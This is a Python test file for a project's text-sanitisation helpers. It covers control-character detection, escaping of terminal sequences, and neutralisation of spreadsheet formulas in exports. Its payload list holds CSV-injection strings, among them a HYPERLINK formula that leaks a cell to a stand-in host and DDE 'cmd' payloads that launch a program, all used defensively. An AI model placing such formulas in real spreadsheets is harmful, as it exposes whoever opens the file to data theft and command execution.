"""Text from outside made safe: control characters found, spreadsheet formulas neutralised,
terminal output made printable."""

from __future__ import annotations

import dataclasses

import pytest
from hypothesis import given
from hypothesis import strategies as st

from barometre.core.text import find_control, neutralise_formula, printable, restore_formula

#: The payloads of a spreadsheet formula injection (OWASP "CSV injection").
FORMULA_PAYLOADS = [
    '=HYPERLINK("http://x.example/?leak="&A1;"clic")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("payload", FORMULA_PAYLOADS)
def test_a_text_cell_never_starts_with_a_formula_trigger(payload: str) -> None:
    cell = neutralise_formula(payload)
    assert cell.startswith("'") and cell[1:] == payload


def test_plain_text_is_left_alone() -> None:
    assert neutralise_formula("Rennes") == "Rennes"
    assert neutralise_formula("") == ""


@given(st.text())
def test_neutralising_is_reversible(text: str) -> None:
    assert restore_formula(neutralise_formula(text)) == text
    assert not neutralise_formula(text).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_control_characters_are_found_but_line_breaks_allowed_in_multiline_text() -> None:
    assert find_control("abc\x00def") == 3
    assert find_control("a\x1b[31m") == 1
    assert find_control("é\u0085") == 1  # C1 control (NEL)
    assert find_control("ligne\nligne", multiline=True) is None
    assert find_control("ligne\nligne") == 5
    assert find_control("Île-d’Yeu 😀") is None


def test_printable_shows_escape_sequences_instead_of_obeying_them() -> None:
    assert printable("a\x1b]8;;http://x\x1b\\b") == "a\\x1b]8;;http://x\\x1b\\b"
    assert printable("x\x00y\x9bz") == "x\\x00y\\x9bz"
    assert printable("ligne 1\nligne 2\tfin") == "ligne 1\nligne 2\tfin"


def test_the_xlsform_export_keeps_text_cells_text(tmp_path: object) -> None:
    from pathlib import Path

    from openpyxl import load_workbook

    from barometre.core.questionnaire import load_edition
    from barometre.core.questionnaire.schema import Text
    from barometre.core.questionnaire.xlsform import export_xlsform

    qn = load_edition(2025)
    qn = dataclasses.replace(qn, title=Text(fr='=HYPERLINK("http://x.example")', en="+1+1"))
    out = Path(str(tmp_path)) / "form.xlsx"
    export_xlsform(qn, out)
    ws = load_workbook(out)["settings"]
    cells = [c for row in ws.iter_rows() for c in row if isinstance(c.value, str) and c.value[:1] in "=+"]
    assert cells and all(c.data_type == "s" for c in cells)
